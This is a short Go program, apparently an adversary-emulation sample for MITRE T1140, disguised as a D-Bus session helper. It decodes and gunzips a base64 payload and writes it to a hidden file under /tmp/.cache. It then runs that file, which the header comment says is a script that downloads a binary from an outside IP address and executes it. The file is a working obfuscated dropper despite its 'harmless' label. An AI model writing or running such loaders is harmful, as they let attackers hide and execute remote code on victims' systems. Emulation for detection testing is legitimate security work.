// dbus-session-launch (harmless re-enactment of T1140): a standard base64 string holding a
// gzip stream is decoded and gunzipped in this process's memory (encoding/base64 +
// compress/gzip), written to /tmp/.cache/.dbus-session (0755) and executed. Decoded, it is:
//
//	#!/bin/sh
//	# dbus session helper
//	d=/tmp/.cache/.dbus
//	mkdir -p $d
//	wget -q -O $d/dbus-launch http://198.51.100.61/upd/dbus-launch.bin
//	chmod +x $d/dbus-launch
//	$d/dbus-launch --autolaunch
package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	"os"
	"os/exec"
)

const session = "H4sIAAAAAAACA12NQQ7CIBBF95xiTN2ZmSkLjZp4Bs9AgTjEQrFA9Pi2iRu7/Hkv73c7HkLiIqoDN7QCxZcSpgTix+xn5W5cY2ayxopnWhUVny7MgBn2Tr0fvgK+AO/L4hXjaFqyAlJrvjLry5mOmnTf00lzy38SLd/KSpwcHD6bgNr0EE2r0499AfClx7S3AAAA"

func main() {
	fmt.Println("dbus-session-launch: starting session bus helper")
	packed, err := base64.StdEncoding.DecodeString(session)
	if err != nil {
		return
	}
	zr, err := gzip.NewReader(bytes.NewReader(packed))
	if err != nil {
		return
	}
	script, err := io.ReadAll(zr)
	if err != nil {
		return
	}
	_ = os.MkdirAll("/tmp/.cache", 0o700)
	path := "/tmp/.cache/.dbus-session"
	if err := os.WriteFile(path, script, 0o755); err != nil {
		return
	}
	cmd := exec.Command(path)
	cmd.Stdout = os.Stdout
	cmd.Stderr = os.Stderr
	_ = cmd.Run()
}
